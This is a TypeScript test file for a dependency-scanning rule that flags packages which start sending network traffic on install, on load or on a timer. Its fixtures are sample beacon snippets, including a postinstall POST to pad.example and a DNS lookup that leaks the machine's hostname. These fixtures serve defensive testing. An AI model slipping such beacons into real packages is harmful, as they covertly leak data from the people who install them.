import { beaconAdded } from '../../../src/rules/code/beacon-added.js'
import type { Severity } from '../../../src/rules/rule.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { type CodeEvidence, codeFacts, codeObservation } from '../../builders/code-finding.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { testRule } from '../../rule-tester.js'

const upgrade = aDependencyChange()
const addition = aDependencyChange({ before: null })

const observation = (severity: Severity, ...evidence: readonly CodeEvidence[]) =>
  codeObservation('sends something by itself: as soon as it is installed or loaded, or again and again', evidence, {
    severity,
  })

const pad = { 'index.js': 'module.exports = (text, width) => text.padStart(width)\n' }
const post = "fetch('https://pad.example/', { method: 'POST', body: '1' })"
const onPostinstall = { scripts: { postinstall: 'node setup.js' } }
const resolve = "require('dns').resolve4(require('os').hostname() + '.pad.example', () => {})"
const request = "require('https').request({ host: 'pad.example', method: 'POST' }).end()"
const interval = "exports.start = () => setInterval(() => fetch('https://pad.example/'), 1000)"

testRule(beaconAdded, {
  clear: [
    {
      name: 'a request in a function',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': `exports.ask = () => ${post}` }),
    },
    {
      name: 'a request that is tried again in a while',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': `exports.ask = () => setTimeout(() => ${post}, 1000)` }),
    },
    {
      name: 'a timer that sends nothing',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': 'setInterval(() => tick(), 1000)\nfunction tick() {}' }),
    },
    {
      name: 'a question about the browser',
      subject: addition,
      facts: {
        package: await anAnalysedPackage({
          'index.js':
            "const request = new XMLHttpRequest()\nrequest.open('GET', '/')\nexports.canSend = 'withCredentials' in request",
        }),
      },
    },
    {
      name: 'an agent and a client that are made for later',
      subject: addition,
      facts: {
        package: await anAnalysedPackage({
          'index.js':
            "const axios = require('axios')\nexports.client = axios.create({ baseURL: 'https://pad.example/' })\nexports.server = require('net').createServer()",
        }),
      },
    },
    {
      name: 'a download that an install script keeps',
      subject: addition,
      facts: {
        package: await anAnalysedPackage(
          {
            ...pad,
            'setup.js':
              "const fs = require('fs')\nrequire('https').get('https://pad.example/a', (answer) => answer.pipe(fs.createWriteStream('a')))",
          },
          onPostinstall,
        ),
      },
    },
    {
      name: 'what the version before did as well',
      subject: upgrade,
      facts: await codeFacts({ 'index.js': post }, { 'index.js': `// 1.0.1\n${post}` }),
    },
    {
      name: 'a script that is fetched into the page, which says nothing and is told elsewhere',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js': "const script = document.createElement('script')\nscript.src = 'https://pad.example/a.js'",
      }),
    },
    {
      name: "a question to the page's own server",
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': "fetch('/index.json')" }),
    },
    {
      name: 'a download by a library that an install script keeps',
      subject: addition,
      facts: {
        package: await anAnalysedPackage(
          {
            ...pad,
            'setup.js': "require('request')('https://pad.example/a').pipe(require('fs').createWriteStream('a'))",
          },
          onPostinstall,
        ),
      },
    },
    { name: 'a package that is removed', subject: aDependencyChange({ after: null }) },
  ],
  flagged: [
    {
      name: 'a request on load',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': post }),
      observations: [observation('high', ['sends on load', post, 'index.js', 1, 1])],
    },
    {
      name: 'a request that was there to be called and now runs on load',
      subject: upgrade,
      facts: await codeFacts({ 'index.js': `exports.ask = () => ${post}` }, { 'index.js': post }),
      observations: [observation('high', ['sends on load', post, 'index.js', 1, 1])],
    },
    {
      name: 'a file that did not change and that an install script runs from now on',
      subject: upgrade,
      facts: {
        package: await anAnalysedPackage({ ...pad, 'setup.js': post }, onPostinstall),
        previousPackage: await anAnalysedPackage({ ...pad, 'setup.js': post }),
      },
      observations: [observation('high', ['sends on install', post, 'setup.js', 1, 1])],
    },
    {
      name: 'a request on load in a function that is called at once, in a new package too',
      subject: addition,
      facts: { package: await anAnalysedPackage({ 'index.js': `hello()\nfunction hello() { ${post} }` }) },
      observations: [observation('high', ['sends on load', `function hello() { ${post} }`, 'index.js', 2, 20])],
    },
    {
      name: 'a name that is asked for on load',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': resolve }),
      observations: [observation('high', ['sends on load', resolve, 'index.js', 1, 1])],
    },
    {
      name: 'a request on install that keeps nothing',
      subject: addition,
      facts: { package: await anAnalysedPackage({ ...pad, 'setup.js': post }, onPostinstall) },
      observations: [observation('high', ['sends on install', post, 'setup.js', 1, 1])],
    },
    {
      name: 'a request on install that sends and keeps something besides',
      subject: addition,
      facts: {
        package: await anAnalysedPackage(
          { ...pad, 'setup.js': `${request}\nrequire('fs').writeFileSync('seen', '1')` },
          onPostinstall,
        ),
      },
      observations: [observation('high', ['sends on install', request, 'setup.js', 1, 1])],
    },
    {
      name: 'a function in a file that an install script loads, as medium',
      subject: addition,
      facts: {
        package: await anAnalysedPackage({ ...pad, 'setup.js': `exports.hello = () => ${post}` }, onPostinstall),
      },
      observations: [observation('medium', ['sends on install', `exports.hello = () => ${post}`, 'setup.js', 1, 23])],
    },
    {
      name: 'an interval that is started on load',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': "setInterval(() => fetch('https://pad.example/'), 1000)" }),
      observations: [
        observation('high', [
          'sends again and again',
          "setInterval(() => fetch('https://pad.example/'), 1000)",
          'index.js',
          1,
          1,
        ]),
      ],
    },
    {
      name: 'an interval that somebody starts, as medium',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': interval }),
      observations: [observation('medium', ['sends again and again', interval, 'index.js', 1, 23])],
    },
    {
      name: 'an interval in a file that nothing leads to, as low',
      subject: upgrade,
      facts: await codeFacts(pad, { ...pad, 'lib.js': interval }),
      observations: [observation('low', ['sends again and again', interval, 'lib.js', 1, 23])],
    },
    {
      name: 'a wait on load before something is sent',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': "setTimeout(() => fetch('https://pad.example/'), 60000)" }),
      observations: [
        observation('high', [
          'sends after a while',
          "setTimeout(() => fetch('https://pad.example/'), 60000)",
          'index.js',
          1,
          1,
        ]),
      ],
    },
  ],
})
